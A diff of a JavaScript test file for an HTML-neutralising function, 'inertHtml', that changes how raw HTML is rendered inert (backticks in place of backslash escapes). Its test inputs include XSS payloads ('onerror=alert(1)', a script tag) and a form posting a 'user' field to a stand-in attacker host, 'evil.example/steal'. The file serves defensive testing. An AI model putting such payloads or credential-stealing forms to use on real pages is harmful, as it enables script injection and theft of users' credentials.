@@ -3,7 +3,7 @@ import { inertHtml, inertLinks } from './inert-html.js';
 describe('inertHtml', () => {
   it('writes raw HTML as text, in a line and as a block', () => {
     expect(inertHtml('- Fix <img src=x onerror=alert(1)> here\n')).toBe('- Fix \\<img src=x onerror=alert(1)> here\n');
-    expect(inertHtml('<div>\n<script>alert(1)</script>\n</div>\n')).toBe('\\<div>\n\\<script>alert(1)\\</script>\n\\</div>\n');
+    expect(inertHtml('<div>\n<script>alert(1)</script>\n</div>\n')).toBe('`<div>`\n`<script>alert(1)</script>`\n`</div>`\n');
   });
 
   it('keeps code, autolinks, comments and the allowed elements as written', () => {
@@ -20,7 +20,7 @@ describe('inertLinks', () => {
     );
   });
 
-  it('leaves no address to autolink in raw HTML written as text', () => {
-    expect(inertHtml('<form action="https://evil.example/steal"><input name="user"></form>\n')).toBe('\\<form action="https\\://evil.example/steal">\\<input name="user">\\</form>\n');
+  it('writes a raw HTML block as code, so no address in it becomes a link', () => {
+    expect(inertHtml('<form action="https://evil.example/steal"><input name="user"></form>\n')).toBe('`<form action="https://evil.example/steal"><input name="user"></form>`\n');
   });
 });
